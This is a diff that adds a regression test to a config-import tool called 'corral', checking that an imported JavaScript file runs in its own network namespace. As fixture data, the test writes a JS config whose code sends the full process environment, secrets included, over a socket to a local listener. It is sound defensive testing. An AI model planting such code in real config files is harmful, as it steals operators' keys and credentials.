@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import shutil
+import socket
 import subprocess
 import sys
 from pathlib import Path
@@ -279,3 +280,24 @@ def test_units_imported_together_keep_their_order(tmp_path: Path) -> None:
     out.write_text(r.stdout)
     checked = corral("check-config", "--no-check", str(out))
     assert (checked.returncode, checked.stdout) == (0, f"{out}: ok (2 agents, 0 MCP servers)\n")
+
+
+@pytest.mark.skipif(NODE is None, reason="node is not installed")
+def test_a_js_file_reaches_no_network(tmp_path: Path) -> None:
+    """node 20's permission model leaves the network open: a file handed to corral import
+    sent the environment it runs in (the operator's, keys and all) to a listener of its
+    choosing (decision 471). It runs in a network namespace of its own: no connection
+    is made, and its export is still read."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.setblocking(False)
+        port = listener.getsockname()[1]
+        (tmp_path / "eco.config.js").write_text(
+            f"const s = require('net').connect({port}, '127.0.0.1');\n"
+            "s.on('connect', () => s.end(JSON.stringify(process.env)));\n"
+            "s.on('error', () => {});\n"
+            "module.exports = {apps: [{name: 'a', script: 'sleep', args: ['9']}]};\n")
+        r = corral("import", "eco.config.js", cwd=tmp_path, env={**ENV, "SECRET_KEY": "k-4711"})
+        assert (r.returncode, r.stderr) == (0, "")
+        assert '[agents.a]\ncommand = ["sleep", "9"]' in r.stdout
+        with pytest.raises(BlockingIOError):
+            listener.accept()
